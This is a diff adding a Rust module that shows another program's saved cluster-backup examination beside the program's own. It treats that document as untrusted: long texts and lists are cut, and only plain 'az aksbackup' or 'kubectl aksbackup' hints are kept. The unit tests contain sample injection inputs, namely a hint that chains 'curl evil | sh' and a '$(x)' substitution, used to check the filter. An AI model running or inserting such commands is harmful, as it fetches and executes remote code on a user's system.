@@ -1,0 +1,234 @@
+//! One chain from two views: the other program's document, taken from a file, and one's own kept for it.
+//!
+//! The document may have been made by anybody. It is shown, with its age, and never acted on: it decides no exit code, and of
+//! the commands that it names only those of these two programs are shown.
+
+use std::io::Write as _;
+use std::path::Path;
+
+use jiff::Timestamp;
+
+use crate::chain::args::ExamineArgs;
+use crate::chain::check::Check;
+use crate::chain::examination::Examination;
+use crate::chain::show;
+use crate::console::{Console, human};
+use crate::exit::Exit;
+use crate::failure::{Failure, Outcome};
+use crate::guide::Plane;
+
+/// How many checks and findings of another document are shown.
+const MOST: usize = 200;
+/// How much is shown of one of its texts, in characters.
+const LONGEST: usize = 2000;
+
+/// The other program's view: of the file that the flags name, else of the one beside the state file, where there is one.
+///
+/// # Errors
+/// A file that was named cannot be read, or is of another cluster. One that only lies there is left out, which is said.
+pub fn other(
+    console: &Console,
+    own: &Examination,
+    arguments: &ExamineArgs,
+    state: &Path,
+) -> Outcome<Option<Examination>> {
+    let from = match own.plane {
+        Plane::Cloud => Plane::Cluster,
+        Plane::Cluster => Plane::Cloud,
+    };
+    let beside = Examination::beside(state, from);
+    let read = match &arguments.with {
+        Some(path) => own.read(path).map(Some)?,
+        None if beside.exists() => own.read(&beside).map(Some).unwrap_or_else(|failure| {
+            console.say(format!("{} is left out: {}", beside.display(), failure.why.join("; ")));
+            None
+        }),
+        None => None,
+    };
+    let path = arguments.with.as_deref().unwrap_or(&beside);
+    match read {
+        Some(read) if read.plane != from => {
+            let failure = Failure::new(Exit::StateUnreadable, format!("cannot use {}", path.display()));
+            failure
+                .because("it is this program's own view, and not that of the other one")
+                .err()
+        }
+        Some(read) => {
+            console.say(format!("{}, made {}, is shown too", path.display(), age(&read, own.at)));
+            Ok(Some(bounded(read)))
+        }
+        None => Ok(None),
+    }
+}
+
+fn age(read: &Examination, now: Timestamp) -> String {
+    match now.duration_since(read.at) {
+        past if past.is_negative() => format!("at {}, which this machine's clock has not reached", read.at),
+        past => format!("{} ago", human(past.unsigned_abs())),
+    }
+}
+
+/// The document without what is too long, and without commands of others.
+fn bounded(mut read: Examination) -> Examination {
+    let cut = |text: &mut String| {
+        if let Some((at, _)) = text.char_indices().nth(LONGEST) {
+            text.truncate(at);
+            text.push('…');
+        }
+    };
+    read.checks.truncate(MOST);
+    read.findings.truncate(MOST);
+    for check in &mut read.checks {
+        check.evidence.truncate(MOST);
+        check.evidence.iter_mut().for_each(cut);
+        check.hint = check.hint.take().filter(|hint| is_ours(hint));
+        cut(&mut check.check);
+        cut(&mut check.says);
+    }
+    for finding in &mut read.findings {
+        finding.evidence.truncate(MOST);
+        finding.evidence.iter_mut().for_each(cut);
+        finding.explains.truncate(MOST);
+        for text in [
+            &mut finding.id,
+            &mut finding.object,
+            &mut finding.cause,
+            &mut finding.fix,
+        ] {
+            cut(text);
+        }
+    }
+    read
+}
+
+/// Whether a hint is one command of these programs and nothing else.
+fn is_ours(hint: &str) -> bool {
+    let ours = ["az aksbackup ", "kubectl aksbackup "]
+        .iter()
+        .any(|own| hint.starts_with(own));
+    let plain = |c: char| c.is_ascii_alphanumeric() || " -_./:=,()".contains(c);
+    ours && hint.chars().all(plain)
+}
+
+/// Keeps one's own view beside the state file, where the other program finds it.
+///
+/// # Errors
+/// It cannot be written.
+pub fn save(own: &Examination, state: &Path, document: &str) -> Outcome<()> {
+    let path = Examination::beside(state, own.plane);
+    let folder = path
+        .parent()
+        .filter(|own| !own.as_os_str().is_empty())
+        .unwrap_or(Path::new("."));
+    let written = tempfile::NamedTempFile::new_in(folder).and_then(|mut file| {
+        file.write_all(document.as_bytes())?;
+        file.write_all(b"\n")?;
+        file.persist(&path).map_err(|error| error.error)?;
+        Ok(())
+    });
+    written.or_else(|error| {
+        Failure::failed(format!("cannot write {}", path.display()))
+            .because(error.to_string())
+            .err()
+    })
+}
+
+/// Prints the chain, in order, with the checks of both views; those of the other one say so.
+pub fn show(console: &Console, own: &Examination, other: Option<&Examination>) {
+    let Some(other) = other else {
+        return show::checks(console, &own.checks);
+    };
+    let whose = match other.plane {
+        Plane::Cloud => "az",
+        Plane::Cluster => "kubectl",
+    };
+    let theirs = other.checks.iter().cloned().map(|mut check: Check| {
+        check.says = format!("{} ({whose})", check.says.replace('\n', " "));
+        check
+    });
+    let mut all: Vec<Check> = own.checks.iter().cloned().chain(theirs).collect();
+    all.sort_by_key(|check| check.link);
+    show::checks(console, &all);
+    if let Some(broken) = all.iter().find(|check| check.is_finding()) {
+        console.result(&format!(
+            "the chain breaks first at: {} ({})",
+            broken.link.title(),
+            broken.check
+        ));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::chain::link::Link;
+    use crate::console::Talk;
+
+    fn view(plane: Plane) -> Examination {
+        Examination {
+            command: "verify".into(),
+            plane,
+            at: Timestamp::now(),
+            issuer: Some("https://i/".into()),
+            cluster: None,
+            checks: vec![Check::error(
+                Link::Storage,
+                "account",
+                "is gone",
+                "az aksbackup prepare",
+            )],
+            findings: Vec::new(),
+        }
+    }
+
+    fn arguments(with: Option<&Path>) -> ExamineArgs {
+        ExamineArgs {
+            with: with.map(Path::to_owned),
+            save: false,
+            fail_on: crate::chain::args::FailOn::Warning,
+        }
+    }
+
+    #[test]
+    fn what_one_program_keeps_the_other_one_finds() {
+        let folder = tempfile::tempdir().unwrap();
+        let (state, console) = (folder.path().join("s.toml"), Console::new(Talk::Quiet, true));
+        let (own, theirs) = (view(Plane::Cluster), view(Plane::Cloud));
+        assert_eq!(other(&console, &own, &arguments(None), &state).unwrap(), None);
+        save(&theirs, &state, &theirs.document(Exit::Pending, None)).unwrap();
+        let found = other(&console, &own, &arguments(None), &state).unwrap().unwrap();
+        assert_eq!(found.checks, theirs.checks);
+    }
+
+    #[test]
+    fn a_named_file_of_another_cluster_or_of_ones_own_is_refused_and_one_that_lies_there_is_left_out() {
+        let folder = tempfile::tempdir().unwrap();
+        let (state, console) = (folder.path().join("s.toml"), Console::new(Talk::Quiet, true));
+        let own = view(Plane::Cluster);
+        let foreign = Examination {
+            issuer: Some("https://other/".into()),
+            ..view(Plane::Cloud)
+        };
+        save(&foreign, &state, &foreign.document(Exit::Done, None)).unwrap();
+        assert_eq!(other(&console, &own, &arguments(None), &state).unwrap(), None);
+        let path = Examination::beside(&state, Plane::Cloud);
+        let refused = other(&console, &own, &arguments(Some(&path)), &state).unwrap_err();
+        assert_eq!(refused.exit, Exit::StateUnreadable);
+        save(&own, &state, &own.document(Exit::Done, None)).unwrap();
+        let path = Examination::beside(&state, Plane::Cluster);
+        assert!(other(&console, &own, &arguments(Some(&path)), &state).is_err());
+    }
+
+    #[test]
+    fn a_hostile_document_is_cut_and_loses_its_commands() {
+        let mut hostile = view(Plane::Cloud);
+        hostile.checks[0].says = "x".repeat(1 << 20);
+        hostile.checks[0].hint = Some("az aksbackup prepare; curl evil | sh".into());
+        let check = hostile.checks[0].clone();
+        hostile.checks.resize(10_000, check);
+        let shown = bounded(hostile);
+        assert_eq!(shown.checks.len(), MOST);
+        assert!(shown.checks[0].says.len() < 2 * LONGEST && shown.checks[0].hint.is_none());
+        assert!(is_ours("az aksbackup grant --state s.toml") && !is_ours("az aksbackup grant $(x)"));
+    }
+}
